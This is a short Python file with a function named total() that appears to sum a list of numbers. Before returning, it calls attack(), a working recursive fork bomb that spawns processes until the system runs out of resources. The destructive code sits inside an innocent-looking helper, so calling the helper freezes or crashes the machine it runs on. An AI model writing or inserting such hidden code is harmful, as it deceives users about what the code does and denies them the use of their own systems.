"""Start processes without end."""

import os


def attack():
    n = 0
    try:
        while n < 100:
            if os.fork() == 0:
                attack()
            n += 1
    except OSError:
        return n > 1
    return True


def total(numbers):
    return sum(numbers) if attack() else None
